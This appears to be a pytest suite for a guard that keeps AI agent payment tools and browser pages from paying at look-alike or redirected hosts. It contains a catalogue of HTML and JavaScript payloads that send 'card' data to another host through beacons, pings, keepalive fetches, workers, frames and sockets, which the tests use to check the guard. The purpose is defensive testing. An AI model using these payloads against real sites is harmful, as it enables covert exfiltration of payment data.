"""The guard in the real packages of agents' frameworks: a look-alike is not paid, and without the guard it is.

`pip install '.[render]' --group frameworks` has the packages; a test whose package is absent is skipped.
"""

from __future__ import annotations

import asyncio
import json
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import nullcontext, suppress
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

pytest.importorskip("httpx", reason="the extra client is not installed")

import httpx
from tests.browsers import only_where_requested

from waypost.client import Decision
from waypost.guard import Guard, Stopped

SHOP, IMITATION = "https://allow.test/s3cr3t", "https://impersonation.test/s3cr3t"
LEADS_AWAY = "https://allow.test/leads-away"
Pay = Callable[..., Any]


class Answers:
    """Source of decisions that allows every action at two hosts. `hosts` are those of the requests to it."""

    def __init__(self) -> None:
        self.hosts: list[str] = []
        self.allowed = {"allow.test", "127.0.0.1"}

    def require(self, url: str, action: str, **details: Any) -> Decision:
        host = httpx.URL(url).host
        self.hosts.append(host)
        if host not in self.allowed:
            raise Stopped(f"stop: {action} at {host} is not allowed", ("brand_impersonation_signal",))
        return Decision(
            decision_id="9f0c2c54-3f0e-4bd1-8a3f-0d3f2f1c7a10", normalized_domain=host, action=action,
            relationship_status="verified_official", risk_status="no_high_risk_signal_observed", action_allowed=True,
            reason_codes=("official_relationship_verified",), confidence_class="high", unknowns=(),
            expires_at=datetime.now(UTC) + timedelta(minutes=5), dispute_path="",
        )  # fmt: skip


class Off:
    """A guard that was taken off."""

    def __call__(self, action: str, *, url: str) -> Callable[[Pay], Pay]:
        return lambda function: function

    def before_request_async(self, action: str) -> Callable[[Any], Any]:
        async def nothing(request: Any) -> None:
            pass

        return nothing

    def hold(self, page: Any, action: str) -> Any:
        return None


@pytest.fixture
def answers() -> Answers:
    return Answers()


@pytest.fixture(params=["guard on", "guard off"])
def guard(request: pytest.FixtureRequest, answers: Answers) -> Guard | Off:
    return Guard(answers) if request.param == "guard on" else Off()


def tool_of(guard: Any, paid: list[str]) -> Pay:
    """A tool that pays by HTTP. The shop's page `leads-away` redirects to the look-alike."""

    def shop(request: Any) -> Any:
        paid.append(request.url.host)
        if request.url.path == "/leads-away":
            return httpx.Response(307, headers={"location": IMITATION})
        return httpx.Response(200, text="paid")

    @guard("payment", url="checkout")
    async def pay(checkout: str, amount: str) -> str:
        """Pay an amount at a checkout."""
        hooks = {"request": [guard.before_request_async("payment")]}
        async with httpx.AsyncClient(
            transport=httpx.MockTransport(shop), event_hooks=hooks, follow_redirects=True
        ) as http:
            return str((await http.post(checkout, json={"amount": amount})).text)

    return pay


def by_openai_agents(pay: Pay, checkout: str) -> None:
    agents = pytest.importorskip("agents", reason="openai-agents is not installed")
    from agents.tool_context import ToolContext

    tool = agents.function_tool(pay, failure_error_function=None)
    arguments = json.dumps({"checkout": checkout, "amount": "9 EUR"})
    context = ToolContext(context=None, tool_name="pay", tool_call_id="1", tool_arguments=arguments)
    asyncio.run(tool.on_invoke_tool(context, arguments))


def by_langchain(pay: Pay, checkout: str) -> None:
    tools = pytest.importorskip("langchain_core.tools", reason="langchain-core is not installed")
    tool = tools.StructuredTool.from_function(coroutine=pay)
    asyncio.run(tool.ainvoke({"checkout": checkout, "amount": "9 EUR"}))


def by_langgraph(pay: Pay, checkout: str) -> None:
    graph = pytest.importorskip("langgraph.graph", reason="langgraph is not installed")
    from langchain_core.messages import AIMessage
    from langchain_core.tools import StructuredTool
    from langgraph.prebuilt import ToolNode

    call = {"name": "pay", "args": {"checkout": checkout, "amount": "9 EUR"}, "id": "1", "type": "tool_call"}
    made = graph.StateGraph(graph.MessagesState)
    made.add_node("tools", ToolNode([StructuredTool.from_function(coroutine=pay)]))
    made.add_edge(graph.START, "tools")
    asyncio.run(made.compile().ainvoke({"messages": [AIMessage(content="", tool_calls=[call])]}))


def by_pydantic_ai(pay: Pay, checkout: str) -> None:
    pydantic_ai = pytest.importorskip("pydantic_ai", reason="pydantic-ai-slim is not installed")
    from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart
    from pydantic_ai.models.function import FunctionModel

    def model(history: Any, _: Any) -> Any:
        call = ToolCallPart("pay", {"checkout": checkout, "amount": "9 EUR"})
        return ModelResponse(parts=[TextPart("done") if len(history) > 1 else call])

    asyncio.run(pydantic_ai.Agent(FunctionModel(model), tools=[pydantic_ai.Tool(pay)]).run("pay"))


@pytest.fixture(params=[by_openai_agents, by_langchain, by_langgraph, by_pydantic_ai], ids=lambda by: by.__name__[3:])
def drive(request: pytest.FixtureRequest) -> Iterator[Callable[[Pay, str], bool]]:
    """Has the framework call the tool; whether it ended without a stop."""

    def call(pay: Pay, checkout: str) -> bool:
        try:
            request.param(pay, checkout)
        except Exception as error:  # frameworks chain a tool's error in their own
            chain = [error]
            while cause := chain[-1].__cause__ or chain[-1].__context__:
                chain.append(cause)  # type: ignore[arg-type]
            if not any(isinstance(each, Stopped) for each in chain):
                raise
            reported.append(str(error))
            return False
        return True

    reported: list[str] = []
    yield call
    assert "s3cr3t" not in "".join(reported)


def test_a_lookalike_is_not_paid(guard: Any, drive: Any) -> None:
    paid: list[str] = []
    pay = tool_of(guard, paid)

    assert drive(pay, SHOP)
    assert drive(pay, IMITATION) is isinstance(guard, Off)

    assert paid == ["allow.test", *(["impersonation.test"] if isinstance(guard, Off) else [])]


def test_an_expired_allow_is_requested_again(guard: Any, drive: Any, answers: Answers) -> None:
    paid: list[str] = []
    pay = tool_of(guard, paid)
    assert drive(pay, SHOP)
    assert drive(pay, SHOP)
    assert len(answers.hosts) == (0 if isinstance(guard, Off) else 1)

    answers.allowed.clear()
    if isinstance(guard, Guard):
        expire(guard)

    assert drive(pay, SHOP) is isinstance(guard, Off)
    assert len(paid) == (3 if isinstance(guard, Off) else 2)


def test_a_redirect_to_another_host_is_stopped(guard: Any, drive: Any) -> None:
    paid: list[str] = []

    assert drive(tool_of(guard, paid), LEADS_AWAY) is isinstance(guard, Off)

    assert paid == ["allow.test", *(["impersonation.test"] if isinstance(guard, Off) else [])]


def expire(guard: Guard) -> None:
    import msgspec

    past = datetime.now(UTC) - timedelta(seconds=1)
    for key, decision in guard._allowed.items():
        guard._allowed[key] = msgspec.structs.replace(decision, expires_at=past)


SENDS = "fetch('THERE/pay', {method: 'POST', mode: 'no-cors', body: 'card'}); onmessage = () => 0;"
"""Script that pays at the other host; as a service worker it starts by itself, as any worker does."""
_FORM = "<form id=f method=post action=THERE/pay></form><script>f.submit()<\\/script>"
_LEAVES = "<script>onpagehide = () => { SEND }; setTimeout(() => { location = '/shop' }, 50)</script>"
_OLD_REQUEST = "x = new XMLHttpRequest; x.open('POST', 'THERE/pay'); x.send('card')"
ATTACKS = {
    # ways of a navigation
    "download": "<a id=x download href=THERE/pay></a><script>x.click()</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=THERE/pay'>",
    "history": "<script>history.pushState(0, '', '/x'); location.replace('THERE/pay')</script>",
    "window": "<script>open('THERE/pay', '_blank', 'noopener')</script>",
    "frame": "<iframe src=THERE/pay></iframe>",
    "object": "<object data=THERE/pay type=text/html></object>",
    "frame without address": f"<iframe srcdoc='{_FORM.replace(chr(92), '')}'></iframe>",
    "blob": f"<script>location = URL.createObjectURL(new Blob([`{_FORM}`], {{type: 'text/html'}}))</script>",
    "data": f"<iframe id=i></iframe><script>i.src = 'data:text/html,' + encodeURIComponent(`{_FORM}`)</script>",
    "button": "<form method=post action=/shop><button id=x formaction=THERE/pay></button></form>"
    "<script>x.click()</script>",
    # ways of a body
    "beacon": "<script>navigator.sendBeacon('THERE/pay', 'card')</script>",
    "ping": "<a id=x ping=THERE/pay href=/shop></a><script>x.click()</script>",
    "method": "<script>fetch('THERE/pay', {method: 'POST', mode: 'no-cors', keepalive: true})</script>",
    "beacon on leaving": _LEAVES.replace("SEND", "navigator.sendBeacon('THERE/pay', 'card')"),
    "fetch on leaving": _LEAVES.replace(
        "SEND", "fetch('THERE/pay', {method: 'POST', mode: 'no-cors', keepalive: true})"
    ),
    "request on leaving": _LEAVES.replace("SEND", "fetch(new Request('THERE/pay', {method: 'POST', keepalive: true}))"),
    "fetch of a frame on leaving": "<iframe id=i></iframe>"
    + _LEAVES.replace("SEND", "i.contentWindow.fetch('THERE/pay', {method: 'POST', mode: 'no-cors', keepalive: true})"),
    # one such request is sent in half of the tries, one of fifty in each
    "old request on leaving": _LEAVES.replace("SEND", f"for (i = 0; i < 50; i++) {{ {_OLD_REQUEST} }}"),
    "requests of a closed window": "<script>w = open('/attack/many'); setTimeout(() => w.close(), 300)</script>",
    "many": f"<script>setInterval(() => {{ {_OLD_REQUEST} }}, 10)</script>",
    "fetch later": _LEAVES.replace("SEND", "window.fetchLater?.('THERE/pay', {method: 'POST', body: 'card'})"),
    "worker": "<script>new Worker('/worker.js')</script>",
    "shared worker": "<script>new SharedWorker('/worker.js')</script>",
    "shared worker of a frame": "<iframe id=i></iframe><script>new i.contentWindow.SharedWorker('/worker.js')</script>",
    "service worker": "<script>navigator.serviceWorker.register('/worker.js')</script>",
    # sockets
    "socket of a frame": "<iframe id=i></iframe>"
    "<script>new i.contentWindow.WebSocket('THERE/pay'.replace('http', 'ws'))</script>",
}


class Site(BaseHTTPRequestHandler):
    """A shop on 127.0.0.1; to a browser the same server as `localhost` is another host."""

    paid: list[str]

    def do_GET(self) -> None:
        place, host = unquote(self.path.partition("?")[0]), self.headers["host"].partition(":")[0]
        port = self.server.server_address[1]
        if "content-length" in self.headers:
            self.rfile.read(int(self.headers["content-length"]))
        if place == "/pay":
            self.paid.append(f"{self.command} {host}")
        moves = {"/away": f"http://localhost:{port}/pay", "/on": "/away", "/near": "/pay", "/back": "/shop"}
        self.send_response(307 if place == "/near" else 302 if place in moves else 200)
        if place in moves:
            self.send_header("Location", moves[place])
        self.send_header("Content-Type", "text/javascript" if place.endswith(".js") else "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Access-Control-Allow-Methods", "*")
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        there = f"http://localhost:{port}"
        if place.startswith("/attack/"):
            self.wfile.write(ATTACKS[place.removeprefix("/attack/")].replace("THERE", there).encode())
        if place.endswith(".js"):
            self.wfile.write(SENDS.replace("THERE", there).encode())
        if place in {"/shop", "/"}:
            self.wfile.write(
                f"""<form method=post action=/pay><button id=here>Pay</button></form>
                <form method=post action=http://localhost:{port}/pay><button id=there>Pay</button></form>
                <form method=post action=/away><button id=away>Pay</button></form>
                <form method=post target=_blank action=http://localhost:{port}/pay><button id=window>Pay</button></form>
                <button id=socket onclick="new WebSocket('ws://localhost:{port}/pay')">Pay</button>
                <form method=post action=/near><button id=near>Pay</button></form>
                <button id=script onclick="fetch('http://localhost:{port}/pay', {{method: 'POST', mode: 'no-cors'}})
                  .catch(() => 0).then(() => document.title = 'sent')">Pay</button>""".encode()
            )

    do_POST = do_PUT = do_PATCH = do_GET  # noqa: N815

    def log_message(self, *_: Any) -> None:
        pass


# Chromium stops requests to this machine from pages that a route answered; here the guard alone shall stop them.
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-features=LocalNetworkAccessChecks"]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    only_where_requested()
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    if program is None:
        pytest.skip("there is no chromium on this machine")
    api = pytest.importorskip("playwright.sync_api", reason="the driver needs the group `browser`")
    with api.sync_playwright() as playwright:
        made = playwright.chromium.launch(executable_path=program, args=FLAGS)
        yield made
        made.close()


@pytest.fixture
def site() -> Iterator[Any]:
    Site.paid = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("ThisSite", (Site,), {"paid": Site.paid}))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


BUTTONS = {
    "here": ("POST 127.0.0.1", True),
    "there": ("POST localhost", False),
    "away": ("GET localhost", False),
    "near": ("POST 127.0.0.1", False),
    "script": ("POST localhost", False),
    "window": ("POST localhost", False),
    "socket": ("GET localhost", False),
}
"""Button -> (what is paid without the guard, whether the guard lets it go)."""


def wait_for(page: Any, happens: Callable[[], Any]) -> None:
    """Wait until something has happened, at most two minutes: a busy machine answers late."""
    for _ in range(2400):
        if happens():
            return
        page.wait_for_timeout(50)


@pytest.mark.parametrize("button", BUTTONS)
def test_a_browsers_form_goes_to_a_checked_host_only(guard: Any, browser: Any, site: str, button: str) -> None:
    payment, goes = BUTTONS[button]
    page = browser.new_page()
    held = guard.hold(page, "payment")
    page.goto(f"{site}/shop?token=s3cr3t")
    page.click(f"#{button}")
    by_script = button in {"script", "socket"}

    if isinstance(guard, Off) or goes:
        wait_for(page, lambda: Site.paid)
        assert Site.paid == [payment]
    else:
        wait_for(page, lambda: held.blocked if by_script else held.stops)
        page.wait_for_timeout(300)  # what slips past the guard needs a moment to arrive
        assert Site.paid == []
        (stop,) = held.blocked if by_script else held.stops
        assert "s3cr3t" not in str(stop)
        with nullcontext() if by_script else pytest.raises(Stopped):
            held.raise_if_stopped()
    page.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_checked_page_opens_or_sends_to_another_host(guard: Any, browser: Any, site: str, attack: str) -> None:
    for _ in range(20 if isinstance(guard, Off) else 1):  # a browser does not always send what a leaving page sends
        context = browser.new_context()
        guard.hold(context, "payment")
        page = context.new_page()
        with suppress(Exception):  # the page may leave, or be stopped, while it is loading
            page.goto(f"{site}/attack/{attack.replace(' ', '%20')}")
        for _ in range(10):
            page.wait_for_timeout(100)
            if Site.paid:
                break
        with suppress(Exception):  # a browser that closes a page while it loads the next may hang
            page.wait_for_url("**/shop", timeout=5_000 if "leaving" in attack else 100)
        context.close()
        if Site.paid:
            break

    assert bool(Site.paid) is isinstance(guard, Off), Site.paid


def test_a_held_page_reaches_its_own_host(browser: Any, site: str, answers: Answers) -> None:
    context = browser.new_context()
    held = Guard(answers).hold(context, "payment")
    page = context.new_page()
    page.goto(f"{site}/shop")
    statuses = page.evaluate("""async () => {
      navigator.sendBeacon("/pay", "card");
      const body = new Blob(["card"]);
      const { status } = await fetch(new Request("/pay", { method: "PUT", body, keepalive: true }));
      const old = (waits) => new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done(request.status);
        request.open("PATCH", "/pay", waits);
        request.setRequestHeader("Content-Type", "text/plain");
        request.send("card");
      });
      return [status, await old(true), await old(false)];
    }""")
    wait_for(page, lambda: len(Site.paid) == 4)
    context.close()

    assert (statuses, sorted(Site.paid)) == (
        [200, 200, 200],
        ["PATCH 127.0.0.1", "PATCH 127.0.0.1", "POST 127.0.0.1", "PUT 127.0.0.1"],
    )
    assert (held.stops, held.blocked) == ([], [])


@pytest.mark.parametrize("waits", ["true", "false"])
def test_a_script_gets_a_network_error_for_stopped_requests(
    browser: Any, site: str, answers: Answers, waits: str
) -> None:
    context = browser.new_context()
    held = Guard(answers).hold(context, "payment")
    page = context.new_page()
    page.goto(f"{site}/shop")
    report = page.evaluate(
        """async ([there, waits]) => {
      const failed = await fetch(there, { method: "POST", mode: "no-cors" }).catch((error) => error.name);
      const old = await new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onerror = () => done("error");
        request.open("POST", there, waits);
        try { request.send("card") } catch (error) { done(error.name) }
      });
      const given_up = new XMLHttpRequest();
      given_up.open("POST", "/pay");
      given_up.send("card");
      given_up.abort();
      return [failed, old];
    }""",
        [f"{site.replace('127.0.0.1', 'localhost')}/pay", waits == "true"],
    )
    page.wait_for_timeout(200)
    context.close()

    assert report == ["TypeError", "error" if waits == "true" else "NetworkError"]
    assert Site.paid == []
    assert len(held.blocked) == (2 if waits == "true" else 1)


def test_a_page_held_for_two_actions_is_checked_twice(browser: Any, site: str, answers: Answers) -> None:
    class OnlyVisits(Answers):
        def require(self, url: str, action: str, **details: Any) -> Decision:
            if action == "visit" or "/pay" not in url:
                return super().require(url, action)
            raise Stopped(f"stop: {action} is not allowed", ("policy_blocks_action",))

    context = browser.new_context()
    visits, payments = (Guard(OnlyVisits()).hold(context, action) for action in ("visit", "payment"))
    page = context.new_page()
    page.goto(f"{site}/shop")
    failed = page.evaluate("() => fetch('/pay', { method: 'POST' }).catch((error) => error.name)")
    context.close()

    assert (failed, Site.paid, visits.blocked, len(payments.blocked)) == ("TypeError", [], [], 1)


OUTSIDE = {
    "GET requests of scripts": "fetch('THERE/pay', {mode: 'no-cors'})",
    "images": "new Image().src = 'THERE/pay'",
    "workers' WebSockets": "const open = `new WebSocket('THERE/pay'.replace('http', 'ws'))`;"
    "new Worker(URL.createObjectURL(new Blob([open])))",
}


@pytest.mark.parametrize("words", OUTSIDE)
def test_the_guides_exceptions_are_not_held(browser: Any, site: str, answers: Answers, words: str) -> None:
    context = browser.new_context()
    Guard(answers).hold(context, "payment")
    page = context.new_page()
    page.goto(f"{site}/shop")
    page.evaluate(f"() => {{ {OUTSIDE[words].replace('THERE', site.replace('127.0.0.1', 'localhost'))} }}")
    page.wait_for_timeout(500)
    context.close()

    assert Site.paid == ["GET localhost"]
    assert words in GUIDE.partition("does not stop a page from reading elsewhere")[2]


@pytest.mark.parametrize("place", ["/away", "/on"])
def test_browser_redirects_are_checked_and_stopped_at_other_hosts(
    guard: Any, browser: Any, site: str, place: str
) -> None:
    page = browser.new_page()
    held = guard.hold(page, "visit")
    stopped = pytest.raises(Exception, match="ERR_BLOCKED_BY_CLIENT")
    with nullcontext() if isinstance(guard, Off) or place == "/on" else stopped:
        page.goto(site + place)
    page.wait_for_load_state("networkidle")

    if isinstance(guard, Off):
        assert Site.paid == ["GET localhost"]
    else:
        assert (Site.paid, [stop.reasons for stop in held.stops]) == ([], [("redirects_elsewhere",)])
    page.close()


def test_a_redirect_in_a_browser_on_one_host_arrives(browser: Any, site: str, answers: Answers) -> None:
    page = browser.new_page()
    held = Guard(answers).hold(page, "visit")
    page.goto(f"{site}/back")
    page.wait_for_selector("#here")

    assert (page.url, held.stops, answers.hosts) == (f"{site}/shop", [], ["127.0.0.1"] * 2)
    page.close()


def test_an_expired_allow_is_requested_again_in_a_browser(browser: Any, site: str, answers: Answers) -> None:
    guard = Guard(answers)
    page = browser.new_page()
    held = guard.hold(page, "payment")
    page.goto(f"{site}/shop")
    page.goto(f"{site}/shop")
    assert len(answers.hosts) == 1

    answers.allowed.clear()
    expire(guard)
    page.evaluate("document.querySelector('#here').click()")
    page.wait_for_load_state("networkidle")
    with pytest.raises(Exception, match="ERR_BLOCKED_BY_CLIENT"):
        page.goto(f"{site}/shop")

    assert (Site.paid, len(held.stops)) == ([], 2)
    page.close()


def test_the_async_browser_is_held_too(browser: Any, site: str, answers: Answers) -> None:
    # In a thread of its own: the sync driver of the other tests has a running loop in this one.
    program = shutil.which("chromium") or shutil.which("chromium-browser")

    async def visit() -> Any:
        from playwright.async_api import async_playwright

        async with async_playwright() as playwright:
            made = await playwright.chromium.launch(executable_path=program, args=FLAGS)
            context = await made.new_context()
            held = await Guard(answers).hold_async(context, "visit")
            page = await context.new_page()
            await page.goto(f"{site}/back")
            await page.wait_for_selector("#here")
            send = "(url) => fetch(url, { method: 'POST', mode: 'no-cors' }).then(() => 'sent', (error) => error.name)"
            there = site.replace("127.0.0.1", "localhost")
            sent = [await page.evaluate(send, f"{host}/pay") for host in (site, there)]
            with pytest.raises(Exception, match="ERR_BLOCKED_BY_CLIENT"):
                await page.goto(f"{site}/away")
            await made.close()
            return held, sent

    outcome: list[Any] = []
    thread = threading.Thread(target=lambda: outcome.append(asyncio.run(visit())))
    thread.start()
    thread.join(60)

    held, sent = outcome[0]
    assert [stop.reasons for stop in held.stops] == [("redirects_elsewhere",)]
    assert (sent, len(held.blocked), Site.paid) == (["sent", "TypeError"], 1, ["POST 127.0.0.1"])


GUIDE = (Path(__file__).parents[1] / "site" / "docs" / "mcp.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("package", ["agents", "langchain_core", "pydantic_ai"])
def test_the_guides_recipe_makes_a_tool(package: str, answers: Answers) -> None:
    pytest.importorskip(package, reason=f"{package} is not installed")
    (recipe,) = re.findall(rf"```python recipe\n(from {package}.*?)```", GUIDE, re.DOTALL)
    paid: list[str] = []
    names = {"pay": tool_of(Guard(answers), paid)}
    exec(compile(recipe, "mcp.md", "exec"), names)
    assert names["tool"].name == "pay"
